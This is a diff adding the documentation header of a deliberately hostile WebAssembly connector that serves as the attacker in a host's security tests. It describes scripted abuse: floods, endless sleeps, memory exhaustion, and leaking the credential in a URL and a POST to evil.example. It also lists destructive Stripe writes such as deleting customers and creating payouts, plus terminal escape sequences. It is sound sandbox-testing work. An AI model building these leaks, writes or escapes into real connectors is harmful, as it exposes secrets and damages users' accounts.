@@ -1,0 +1,73 @@
+//! A deliberately hostile `klairr:connector@0.2.0` component, the attacker of the host's security tests.
+//!
+//! Built for `wasm32-wasip2` (by `tests/build.rs`, path in `env!("KLAIRR_HOSTILE_COMPONENT")`) it
+//! exports a correctly typed connector that does everything a connector must not: it sends raw wasi:http
+//! (any method, scheme, authority, path, header and body), floods, sleeps forever, spins, allocates,
+//! traps, prints, leaks the credential and returns malformed results. What it does on `query` is decided
+//! by the test, which passes a script as the query text. The tests assert on the hostile upstream's request
+//! log and on the host's output, never on what this component reports: the outcomes it returns are only
+//! there to make a failing test easier to read. Natively the crate is empty.
+//!
+//! # The script (the query text)
+//!
+//! A JSON array of steps run in order, or one step object alone. A script that is not JSON, or a step
+//! this component does not know, is answered with `invalid-query("hostile script: …")`.
+//!
+//! | step | what it does | outcome recorded |
+//! |---|---|---|
+//! | `{"http": {"method": "POST", "scheme": "https", "authority": "api.stripe.com", "path": "/v1/customers?x=1", "headers": [["authorization", "Bearer rk_test_evil"], ["stripe-account", "acct_1"]], "body": "email=a@b.c"}}` | one outgoing request, then reads the whole response body | `HTTP 200, 44 body bytes`, `refused at handle: …`, `response error: …`, plus notes on headers or request-line parts the host refused |
+//! | `{"flood": {"count": 150, "path": "/v1/customers?limit=1"}}` | starts `count` GET requests to `https://api.stripe.com` at once (every `handle` first, then waits for all with `wasi:io/poll`) | `flood: 150 started, 0 refused at handle, 150 responses (150 2xx), 0 errors` |
+//! | `{"sleep_ns": 18446744073709551615}` | `monotonic-clock::subscribe-duration(n).block()` | `slept n ns` |
+//! | `{"spin": true}` | loops forever without a host call | never returns |
+//! | `{"alloc_mib": 300}` | allocates that many MiB and writes every byte (an allocation the host refuses aborts: a trap) | `allocated 300 MiB` |
+//! | `{"panic": "text"}` | `panic!("text")` (the component is built with `panic = "abort"`: a trap) | never returns |
+//! | `{"stack_overflow": true}` | unbounded recursion the optimiser cannot remove | never returns |
+//! | `{"print": {"text": "…", "times": N}}` | writes `text` N times to stdout and N times to stderr | `printed N times`, or where the host's stream failed |
+//! | `{"return": {…}}` | ends the script and returns this query-result instead of the outcomes | — |
+//! | `{"error": {"kind": "upstream", "message": "…"}}` | ends the script and returns this connector-error | — |
+//!
+//! `http`: `method` is any string; the standard names in upper case (`GET`, `HEAD`, `POST`, `PUT`,
+//! `DELETE`, `CONNECT`, `OPTIONS`, `TRACE`, `PATCH`) map to their variants, anything else (`get`, `GeT`,
+//! `FETCH`) is sent as `method::other`. `scheme` is `https`, `http` or any other string (`scheme::other`).
+//! Absent fields default to `GET`, `https`, `api.stripe.com`, `/`, no headers and no body; `null` for
+//! `scheme`, `authority` or `path` leaves that part unset. A header the host refuses is recorded and the
+//! request still goes. `body` is written after `handle`, whether or not the script set a `content-length`
+//! header; without `body` the request has none.
+//!
+//! `return` (no validation, so it may be malformed on purpose): `table` (default `"outcomes"`), `columns`
+//! (`[{"name", "kind", "nullable", "doc"}]`, kind one of `id text integer boolean timestamp amount
+//! currency`; `nullable` defaults to true, `doc` to ""), `rows` (arrays of JSON values: string → text,
+//! integer → integer, bool → boolean, null → null; cell counts and types are not checked against the
+//! columns), `truncated` (false), `cache_ttl_seconds` (any u32, default 0), `shape` (`{"table", "columns",
+//! "row_count", "filter_keys"}`, each field defaulting to the result's own table, columns, row count and
+//! no keys), `requests` (0), `scan_note` (absent).
+//!
+//! `error`: `kind` is one of `secret-key-rejected invalid-key mode-mismatch invalid-query network` (with
+//! `message`), `over-permissioned missing-permission` (with `resources`, a list of strings; defaults to
+//! `[message]`), `upstream rate-limited` (with `message` and optional `status`, `code`, `request_id`).
+//!
+//! Without `return` or `error`, `query` returns table `outcomes`, one text column `outcome`, one row per
+//! step, a cache TTL of 0 and `requests` = the number of requests the steps started.
+//!
+//! # The other functions
+//!
+//! - `check-credential(credential, mode)` tries to leak the credential: `GET
+//!   https://api.stripe.com/v1/customers?leak=<credential>`, a `POST https://evil.example/` carrying it in
+//!   an `authorization` header, an `x-leak` header and the body, and a line on stdout and on stderr. Then it
+//!   accepts anything for `test` (secret keys included) and, for `live`, returns
+//!   `invalid-key("key <credential> is bad")`.
+//! - `open(config)` accepts any configuration.
+//! - `verify()` tries the writes a read-only connector must never make (`POST /v1/customers` with body
+//!   `email=x@evil.example`, `DELETE /v1/customers/cus_RealCustomer123`, `POST /v1/payouts`,
+//!   `POST /v1/charges/ch_Real123/capture`) and one allowed-looking probe (`DELETE
+//!   /v1/customers/cus_klairr_probe_never_exists`), all to `https://api.stripe.com`, then reports success:
+//!   every table readable, every probe "refused".
+//! - `canonical-query(q)` returns `q`.
+//! - `describe()` returns one table, `outcomes`, whose docs carry terminal escape sequences
+//!   ([`ESCAPES`]).
+
+/// The terminal escape sequences the catalogue's docs carry: set the window title, then turn text red.
+pub const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[31m";
+
+#[cfg(target_arch = "wasm32")]
+mod guest;
